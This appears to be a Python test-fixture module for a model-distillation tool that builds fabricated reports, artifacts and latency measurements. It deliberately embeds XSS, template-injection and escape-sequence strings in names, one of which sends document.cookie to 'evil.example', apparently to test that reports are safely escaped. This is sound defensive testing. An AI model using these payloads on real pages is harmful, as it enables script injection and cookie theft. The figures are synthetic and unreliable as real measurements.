"""A realistic report, built by hand: two students, four artifacts and their measurements; and names that mean harm."""

import base64
import io
import math
import random
from functools import cache

import numpy as np
from PIL import Image

from edgekd.core import stats
from edgekd.core.answers import pack
from edgekd.core.parts import PartRef
from edgekd.core.records import (
    CANDIDATE,
    Accuracy,
    Answers,
    Artifact,
    Checkpoint,
    Comparison,
    Counts,
    CurvePoint,
    DataFacts,
    DeviceFacts,
    Energy,
    FileRef,
    Fingerprint,
    Flip,
    InputContract,
    LatencySummary,
    MadeBy,
    Measurement,
    Parity,
    Quarantined,
    Report,
    TeacherFacts,
    TensorSpec,
    TrainingFacts,
    WorkerFacts,
)
from edgekd.core.records.details import (
    Answer,
    Change,
    ClassChange,
    Details,
    ShownImage,
    Timeline,
    TimelinePoint,
    TimelineWorker,
)
from edgekd.core.samples import COLUMNS
from edgekd.judging.latencies import summarise

CLASSES = (
    "butterfly",
    "chandelier",
    "grand_piano",
    "hawksbill",
    "helicopter",
    "kangaroo",
    "ketch",
    "menorah",
    "starfish",
    "sunflower",
)
HOSTILE = (
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '"onload="alert(1)',
    "' onmouseover='alert(1)",
    "</style></svg><svg onload=alert(1)>",
    "]]><x/>",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "one\ntwo\r\nthree\x00\x85\u2028\u202eevil\ufffe",
    "@mention #1 https://evil.example www.evil.example a@b.example",
    "a|b`c`d``e``|f",
    "[link](javascript:alert(1)) ![image](http://evil.example/x.png)",
    "{{ 7 * 7 }}{% include 'x' %}",
    "$x^{$ $\\frac{$ &amp; &#60;b&#62;",
    "# heading\n- item\n> quote\n---",
    "\udc80 lone surrogate",
    "*bold* _em_ ~~strike~~ \\*",
    "日本語の名前 🦊",
)
MADE_BY = MadeBy(
    version="0.1.0",
    command="edgekd run recipes/quickstart.yaml",
    git="a0be8a0 (clean)",
    at="2026-03-02T10:15:00Z",
)
INPUT = InputContract(
    size_px=(96, 96),
    resize_px=110,
    interpolation="bicubic",
    mean=(0.485, 0.456, 0.406),
    std=(0.229, 0.224, 0.225),
)
DEVICE = DeviceFacts(
    name="local",
    system="Linux 6.1.0",
    machine="x86_64",
    cpu="Intel(R) Xeon(R) Platinum 8375C CPU @ 2.90GHz",
    logical_cores=8,
    usable_cores=2,
    cgroup_quota_cores=2.0,
    memory_bytes=33_285_996_544,
    governor=None,
    load_1min=0.34,
    python="CPython 3.11.9",
    container="docker",
    physical_cores=4,
    affinity_cores=2,
)


def sha(text: str) -> str:
    """Return 64 hexadecimal digits that depend on the text."""
    return f"{random.Random(text).getrandbits(256):064x}"


def file(path: str, size_bytes: int = 4096) -> FileRef:
    """Return the reference of a file that need not exist."""
    return FileRef(path=path, size_bytes=size_bytes, sha256=sha(path))


def accuracy(correct: int, images: int = 240, *, of: str = "predictions.csv") -> Accuracy:
    """Return counts of right answers."""
    return Accuracy(images=images, top1_correct=correct, top5_correct=min(images, correct + 60), predictions=file(of, 9000))


def checkpoint(*, correct: int = 171, method: str = "feature", name: str = "checkpoint", hostile: str = "") -> Checkpoint:
    """Return a trained student; `hostile` is worked into every name that a user or a file chooses."""
    classes = tuple(f"{c}{hostile}" for c in CLASSES) if hostile else CLASSES
    supervised = method == "supervised"
    teacher = TeacherFacts(
        part=PartRef(
            use="timm", options={"model": f"vit_tiny_patch16_224{hostile}", "weights": "weights/vit_tiny.safetensors"}
        ),
        name=f"vit_tiny_patch16_224{hostile}",
        weights_sha256=sha("teacher"),
        licence=f"Apache-2.0{hostile}",
        size_px=(224, 224),
        parameters=5_524_416,
        probe_top1=0.9458,
        knn_top1=0.9125,
    )
    data = DataFacts(
        source=PartRef(use="folder", options={"root": f"data/caltech10{hostile}", "labels_per_class": 10}),
        digest=sha("data"),
        classes=classes,
        train_images=600,
        labelled_images=100,
        validation_images=240,
        quarantined=(
            Quarantined(image=f"train/ketch/image_0031.jpg{hostile}", reason="truncated: 1,204 of 18,220 bytes"),
            Quarantined(image="train/menorah/notes.jpg", reason=f"not an image: starts with 'Meno'{hostile}"),
        ),
    )
    training = TrainingFacts(
        steps=1410,
        images_seen=90_240,
        seconds=142.3 if not supervised else 96.8,
        images_per_second=634.2 if not supervised else 932.2,
        data_wait_share=0.042,
        final_loss=0.2184 if not supervised else 0.0123,
        device="cpu",
        precision="fp32",
    )
    return Checkpoint(
        made_by=MADE_BY,
        from_={"data": data.digest, "recipe": sha("recipe" + method)},
        name=name,
        weights=file("student.safetensors", 6_131_416),
        history=file("history.jsonl", 40_112),
        student=PartRef(use="timm", options={"model": "mobilenetv3_small_100", "pretrained": False}),
        student_name=f"mobilenetv3_small_100{hostile}",
        parameters=1_528_106,
        licence=f"Apache-2.0{hostile}",
        classes=classes,
        input=INPUT,
        method=PartRef(use=method, options={} if supervised else {"weight": 1.0, "tap": "pooled"}),
        teachers=() if supervised else (teacher,),
        data=data,
        training=training,
        accuracy=accuracy(correct),
        knn_top1=0.6958,
        probe_top1=0.7208,
        seed=0,
    )


def artifact(
    name: str = "onnxruntime", precision: str = "fp32", *, size_bytes: int = 6_142_880, correct: int = 171, hostile: str = ""
) -> Artifact:
    """Return an exported student."""
    flips = (
        ()
        if precision == "fp32"
        else (
            Flip(
                image=f"val/ketch/image_0007.jpg{hostile}",
                torch_class=f"ketch{hostile}",
                runtime_class=f"helicopter{hostile}",
                label=f"ketch{hostile}",
            ),
        )
    )
    half = precision == "fp16"
    return Artifact(
        made_by=MADE_BY,
        from_={"checkpoint": checkpoint(hostile=hostile).digest()},
        backend=PartRef(use=name, options={"precision": precision}),
        precision=precision,
        executed_precision="fp32" if half else precision,
        executed_on="CPUExecutionProvider" if name == "onnxruntime" else f"CPU{hostile}",
        runtime=f"{name} 1.22.0{hostile}",
        files=(file("model.onnx", size_bytes),),
        size_bytes=size_bytes,
        inputs=(TensorSpec(name=f"image_BCHW{hostile}", shape=("batch", 3, 96, 96), dtype="float32"),),
        outputs=(TensorSpec(name=f"logits_BK{hostile}", shape=("batch", 10), dtype="float32"),),
        opset=18,
        classes=CLASSES,
        input=INPUT,
        parity=Parity(
            images=240,
            max_abs=3.1e-2 if half else 8.6e-6,
            mean_abs=2.2e-3 if half else 9.1e-7,
            logit_cosine_mean=0.999998,
            logit_cosine_min=0.99994,
            top1_agreements=240 - len(flips),
            flips=flips,
        ),
        accuracy=accuracy(correct),
        licences={"student": "Apache-2.0", "teacher": f"Apache-2.0{hostile}"},
        macs=9_800_000,
    )


def samples_of(workers_ns: list[list[int]]) -> dict[str, np.ndarray]:
    """Return the columns of workers whose queries took these times, each followed by as many whole ways of one more ms."""
    rows = []
    for worker, times in enumerate(workers_ns):
        at = 0
        for index, ns in enumerate(times):
            rows.append((worker, worker, 0, 0, index % 32, at, 0, -1, ns, -1, -1))
            at += ns
        rows += [
            (worker, worker, 0, 1, index % 32, at, 0, 900_000, ns, 100_000, ns + 1_000_000) for index, ns in enumerate(times)
        ]
    table = np.array(rows, dtype=np.int64).reshape(-1, len(COLUMNS))
    return dict(zip(COLUMNS, np.ascontiguousarray(table.T), strict=True))


def times_of(typical_ms: float, *, workers: int = 7, iterations: int = 200, seed: int = 0) -> list[list[int]]:
    """Return lognormal noise, a process effect, one slow query in a hundred, in ns."""
    draw = random.Random(seed)
    found = []
    for _ in range(workers):
        process_ms = typical_ms * math.exp(draw.gauss(0, 0.01))
        times = [process_ms * math.exp(draw.gauss(0, 0.04)) * (1.6 if draw.random() < 0.01 else 1.0) for _ in range(iterations)]
        found.append([int(ms * 1e6) for ms in times])
    return found


def measurement(
    of: Artifact, *, typical_ms: float = 1.0, workers: int = 7, iterations: int = 200, hostile: str = "", arm: str = CANDIDATE
) -> Measurement:
    """Return the record of an artifact's measurement; its samples are `times_of` the same numbers."""
    draw = random.Random(0)
    found = [
        WorkerFacts(
            round=number,
            position=0,
            load_ns=int(draw.uniform(28e6, 34e6)),
            compile_ns=None,
            first_ns=int(typical_ms * 3.1e6),
            cpu_ns=int(typical_ms * 1.9e6),
            peak_rss_bytes=80_000_000,
            exit=0,
            window_ns=(0, int(iterations * typical_ms * 1e6)),
        )
        for number in range(workers)
    ]
    return Measurement(
        made_by=MADE_BY,
        from_={"artifact": of.digest()},
        artifact=of.digest(),
        session=sha("session"),
        arm=arm,
        device=DEVICE.model_copy(update={"name": f"local{hostile}", "cpu": f"{DEVICE.cpu}{hostile}"}),
        fingerprint=Fingerprint.of({"cpu": f"{DEVICE.cpu}{hostile}"}),
        protocol="1",
        profile="gate",
        mode="single",
        runtime=of.runtime,
        executed_on=of.executed_on,
        executed_precision=of.executed_precision,
        batch=1,
        threads=2,
        spin=True,
        seed=0,
        input_images=32,
        inputs_sha256=sha("inputs"),
        counts=Counts(warmup=20, iterations=iterations, warmup_s=3.0, settled_s=0.0, recorded_s=30.0),
        samples=file("samples.npz", 1),
        workers=tuple(found),
        flags=(f"busy: load average 4.20 on 8 cores at the start{hostile}",) if of.precision == "fp16" else (),
        trusted=True,
        untrusted_because=(),
    )


def summary(
    of: Artifact,
    *,
    typical_ms: float = 1.0,
    workers: int = 7,
    iterations: int = 200,
    hostile: str = "",
    seed: int = 0,
    arm: str = CANDIDATE,
) -> LatencySummary:
    """Return an artifact's measurement in a few numbers."""
    record = measurement(of, typical_ms=typical_ms, workers=workers, iterations=iterations, hostile=hostile, arm=arm)
    told = ("session", "arm", "device", "runtime", "executed_on", "executed_precision", "flags")
    return figures(typical_ms, workers, iterations, seed).model_copy(
        update={
            **{name: getattr(record, name) for name in told},
            "artifact": of.name,
            "digest": record.artifact,
            "device_class": record.fingerprint.device_class,
            "device_state": record.fingerprint.device_state,
        }
    )


@cache
def figures(typical_ms: float, workers: int, iterations: int, seed: int) -> LatencySummary:
    """Return what `summarise` makes of samples, once: names change nothing of it, and its intervals take their time."""
    table = samples_of(times_of(typical_ms, workers=workers, iterations=iterations, seed=seed))
    of = artifact()
    return summarise(of.name, measurement(of, typical_ms=typical_ms, workers=workers, iterations=iterations), table)


def comparison(*, only_student: int = 48, only_baseline: int = 19, student: int = 171, images: int = 240) -> Comparison:
    """Return the student against the baseline."""
    return Comparison(
        images=images,
        student_top1=stats.wilson(student, images),
        baseline_top1=stats.wilson(student - only_student + only_baseline, images),
        only_student_right=only_student,
        only_baseline_right=only_baseline,
        difference=stats.paired_difference(only_student, only_baseline, images),
        mcnemar_p=stats.mcnemar(only_student, only_baseline),
    )


def curve(final: float, *, rate: float, points: int = 120, total: int = 90_240) -> tuple[CurvePoint, ...]:
    """Return a learning curve: falling loss, an evaluation at every tenth point."""
    draw = random.Random(final)
    found = []
    for i in range(1, points + 1):
        done = i / points
        loss = 2.3 * math.exp(-rate * done) + 0.15 + draw.gauss(0, 0.03)
        top1 = max(0.1, final * (1 - math.exp(-4 * done)) / (1 - math.exp(-4)) + draw.gauss(0, 0.008))
        found.append(CurvePoint(images_seen=int(total * done), loss=loss, top1=top1 if i % 12 == 0 else None))
    return (*found[:-1], found[-1].model_copy(update={"top1": final}))


def answered(of: str, right: list[bool], *, images: str = "val") -> Answers:
    """Return answers to 24 images of each of ten classes; losses and confidences follow from being right."""
    ids = [(label, f"{images}/{label}/{i:04d}.jpg") for label in CLASSES for i in range(len(right) // 10)]
    return pack(
        of,
        ids,
        right,
        top5=[True] * len(right),
        nll=[0.3 if ok else 1.8 for ok in right],
        brier=[0.1 if ok else 0.9 for ok in right],
        confidences=[0.9 if ok else 0.5 for ok in right],
    )


def rightness(correct: int, images: int = 240) -> list[bool]:
    """Return `correct` right answers and then wrong ones."""
    return [i < correct for i in range(images)]


def latencies(artifacts: tuple[Artifact, ...], *, hostile: str = "") -> tuple[LatencySummary, ...]:
    """Return a measurement of each artifact in a few numbers."""
    typical_ms = {"torch-fp32": 6.4, "onnxruntime-fp32": 1.31, "openvino-fp32": 0.93, "openvino-fp16": 0.96}
    spent = {
        "cpu_ms": (2.1, 2.0, 2.2),
        "peak_rss_bytes": (90_000_000, 91_000_000, 90_500_000),
        "energy": (Energy(sensor="rapl", joules=2400.0, seconds=60.0),),
    }
    found = (summary(a, typical_ms=typical_ms.get(a.name, 2.0), hostile=hostile, seed=i) for i, a in enumerate(artifacts))
    return tuple(one.model_copy(update=spent) for one in found)


def report(*, hostile: str = "") -> Report:
    """Return the whole report of a quickstart-like run; `hostile` is worked into every free name in it."""
    student = checkpoint(hostile=hostile)
    baseline = checkpoint(correct=142, method="supervised", name="baseline", hostile=hostile)
    artifacts = (
        artifact("torch", "fp32", size_bytes=6_190_008, hostile=hostile),
        artifact("onnxruntime", "fp32", hostile=hostile),
        artifact("openvino", "fp32", size_bytes=6_225_414, hostile=hostile),
        artifact("openvino", "fp16", size_bytes=3_201_776, correct=170, hostile=hostile),
    )
    measured = latencies(artifacts, hostile=hostile)
    from_ = {"checkpoint": student.digest(), "baseline": baseline.digest()}
    from_ |= {f"artifacts/{a.name}": a.digest() for a in artifacts}
    from_ |= {f"measurements/{a.name}@local": sha("measurement" + a.name) for a in artifacts}
    return Report(
        made_by=MADE_BY.model_copy(update={"command": f"{MADE_BY.command}{hostile}", "git": f"{MADE_BY.git}{hostile}"}),
        from_=from_,
        recipe=f"quickstart{hostile}",
        student=student,
        baseline=baseline,
        comparison=comparison(),
        student_curve=curve(171 / 240, rate=3.0),
        baseline_curve=curve(142 / 240, rate=7.0),
        artifacts=artifacts,
        latencies=measured,
        answers=(
            answered("student", rightness(171)),
            answered("undistilled", [i < 123 or 171 <= i < 190 for i in range(240)]),
            *(answered(a.name, rightness(a.accuracy.top1_correct)) for a in artifacts),
        ),
    )


def bare_report() -> Report:
    """Return a report with a student and nothing else."""
    student = checkpoint(method="supervised")
    return Report(
        made_by=MADE_BY,
        from_={"checkpoint": student.digest()},
        recipe="bare",
        student=student,
        baseline=None,
        comparison=None,
        student_curve=(),
        baseline_curve=(),
        artifacts=(),
        latencies=(),
    )


def hundred_hostile() -> tuple[str, ...]:
    """Return a hundred names that would run, load, or break out of where they stand, if they were obeyed."""
    does = ("window.pwned=1", "alert(document.domain)", "fetch('https://evil.example/'+document.cookie)")
    events = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
    elements = ("img src=x", "svg", "details open", "video src=x", "body", "iframe srcdoc=x", "input autofocus", "marquee")
    found = [*HOSTILE]
    found += [f"<script>{what}</script>" for what in does]
    found += [f"</{end}><script>{does[0]}</script>" for end in ("title", "style", "td", "textarea", "svg", "main")]
    found += [f"<{element} {event}={does[i % 3]}>" for i, element in enumerate(elements) for event in events[:4]]
    found += [f'{quote} {event}="{does[0]}" {quote}' for quote in ("'", '"', "`", "&quot;") for event in events[4:]]
    found += [f"{scheme}:{does[0]}" for scheme in ("javascript", "JaVaScRiPt", "data:text/html,<script>", "vbscript", "file")]
    found += [f"url({target})" for target in ("https://evil.example/a.png", "//evil.example/b", "data:image/svg+xml,<svg/>")]
    found += [
        "<!--",
        "-->",
        "<![CDATA[",
        "<?php",
        "&#x3c;script&#x3e;",
        "%3Cscript%3E",
        "\\u003cscript\\u003e",
        "<base href=//e>",
    ]
    found += ["<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>"]
    found += [
        "@import url(//evil.example/y.css);",
        "</style><style>*{display:none}</style>",
        "{{constructor.constructor('x')()}}",
    ]
    found += ["${7*7}", "#{7*7}", "<%= 7*7 %>", "\u202e gnp.exe", "a" * 5000, "\x00<script>x</script>"]
    return tuple(dict.fromkeys(found))[:100]


def picture(colour: tuple[int, int, int]) -> str:
    """Return a small JPEG of one colour in base64."""
    held = io.BytesIO()
    Image.new("RGB", (96, 64), colour).save(held, "JPEG")
    return base64.b64encode(held.getvalue()).decode("ascii")


def detailed(of: Report, *, names: tuple[str, ...] = ()) -> Report:
    """Return a report with classes that changed, flips with pictures, and a session; `names` are those of the classes."""
    classes = names or of.student.classes
    rows = tuple(
        ClassChange(
            name=name,
            images=24,
            right=18 + i % 5,
            right_before=20,
            only_now=max(0, i % 5 - 2),
            only_before=max(0, 2 - i % 5),
            p_value=1.0 if i % 5 else 0.031,
        )
        for i, name in enumerate(classes)
    )
    changes = (
        Change(subject="student", against="baseline", classes=rows),
        Change(subject=of.artifacts[-1].name, against="student", classes=rows[:2]),
    )
    said = [classes[0], classes[1 % len(classes)]]
    shown = tuple(
        ShownImage(
            image=f"val/{name}/image_{i:04d}.jpg",
            label=name,
            answers=(
                Answer(who="student", said=name, right=True),
                *(Answer(who=a.name, said=said[i % 2], right=said[i % 2] == name) for a in of.artifacts),
            ),
            jpeg=picture((40 * i % 256, 120, 200)) if i != 2 else "",
        )
        for i, name in enumerate(classes[2:8])
    )
    draw = random.Random(5)
    points = tuple(
        TimelinePoint(
            at_s=i / 2,
            clock_mhz=2400 - (i > 60) * 12 * (i - 60) + draw.gauss(0, 8),
            temperature_c=52 + 18 * (1 - math.exp(-i / 40)) + draw.gauss(0, 0.3),
            busy=0.55 + 0.3 * (i % 12 < 8) + draw.gauss(0, 0.03),
        )
        for i in range(120)
    )
    workers = tuple(
        TimelineWorker(
            artifact=a.name,
            arm="candidate",
            at_s=2.0 + 6 * turn + 1.4 * i,
            p50_ms=(6.4, 1.31, 0.93, 0.96)[i % 4] * draw.gauss(1, 0.02),
        )
        for turn in range(9)
        for i, a in enumerate(of.artifacts)
    )
    device = of.latencies[0].device.name
    fields = {"cpu": DEVICE.cpu, "governor": "ondemand", "settings": names[0] if names else "", "smt": None}
    details = Details(
        changes=changes,
        shown=shown,
        flipped=41,
        timelines=(Timeline(device=device, session=sha("session"), points=points, workers=workers),),
        fingerprints={device: Fingerprint.of(fields)},
    )
    return of.model_copy(update={"details": details})
